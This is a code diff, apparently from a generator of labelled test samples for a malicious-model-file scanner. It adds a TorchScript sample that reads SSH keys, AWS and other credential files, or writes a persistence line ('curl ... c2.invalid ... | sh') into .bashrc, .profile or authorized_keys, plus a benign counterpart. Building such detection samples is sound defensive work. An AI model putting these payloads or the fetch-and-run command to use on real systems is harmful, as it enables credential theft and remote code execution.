@@ -838,8 +838,33 @@ def m_keras3_config_code(d):
                 target[1], bytes_writer(_keras3_model(d, layer, True)))
 
 
+def _torchscript():
+    import torchscript_payloads  # imports torch: only when a TorchScript sample is drawn
+    return torchscript_payloads
+
+
+def m_torchscript_file_reach(d):
+    """Issue #12: a TorchScript archive whose compiled code maps a decoy file with torch.from_file,
+    reading a secret or writing persistence, from __setstate__ (inside torch.jit.load) or forward()."""
+    on_load = d.pick([True, False])
+    if d.pick(["read", "write"]) == "read":
+        path = d.pick([".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials", ".kube/config",
+                       ".cache/huggingface/token"])
+        data = _torchscript().file_reach(path, b"\0" * d.r.randint(4, 16), False, on_load, d.r.getrandbits(31))
+        action, evidence = "reads", f"read ~/{path}"
+    else:
+        path = d.pick([".ssh/authorized_keys", ".bashrc", ".profile"])
+        line = f"curl -s http://{d.word()}.c2.invalid/{d.word()} | sh\n".encode()
+        data = _torchscript().file_reach(path, line, True, on_load, d.r.getrandbits(31))
+        action, evidence = "writes", f"write ~/{path}"
+    return Made("malicious", "torchscript-from-file", "torchscript", ".pt",
+                f"TorchScript {'__setstate__' if on_load else 'forward()'} {action} ~/{path} with torch.from_file",
+                evidence, bytes_writer(data))
+
+
 FIXED_MALICIOUS = [m_torch_extra_member, m_numpy_nested_object, m_joblib_compressed, m_dill_function,
-                   m_keras_lambda_popen, m_gguf_template_injection, m_onnx_reach_out, m_keras3_config_code]
+                   m_keras_lambda_popen, m_gguf_template_injection, m_onnx_reach_out, m_keras3_config_code,
+                   m_torchscript_file_reach]
 
 
 # --- suspicious: string code with no effect, environment probes ---------------------------------
@@ -1083,10 +1108,20 @@ def b_keras3_model(d):
                 bytes_writer(_keras3_model(d, layer, functional)))
 
 
+def b_torchscript_module(d):
+    """Issue #12: an ordinary TorchScript archive, scripted or traced, as torch.jit.save writes it."""
+    traced = d.pick([False, True])
+    width = d.r.randint(2, 16)
+    data = _torchscript().scaled_linear(width, d.r.choice([0.5, 1.0, 2.0, 10.0]), traced, d.r.getrandbits(31))
+    return Made("benign", "torchscript-module", "torchscript", ".pt",
+                f"TorchScript Linear({width}, 2)+tanh, {'traced' if traced else 'scripted'}", "call torch.jit.load",
+                bytes_writer(data))
+
+
 BENIGN = [b_archived_checkpoint, b_torch_nested_checkpoint, b_numpy_structured, b_sklearn_pipeline, b_getattr_harmless, b_operator_add,
           b_decimal_fraction_datetime, b_namedtuples, b_dill_closure_numbers, b_keras_arith, b_numpy_nested_object,
           b_joblib_other_compressor, b_torch_module_variant, b_gguf_chat_model, b_onnx_model,
-          b_keras3_model]
+          b_keras3_model, b_torchscript_module]
 
 
 # --- choosing and writing the set -----------------------------------------------------------------
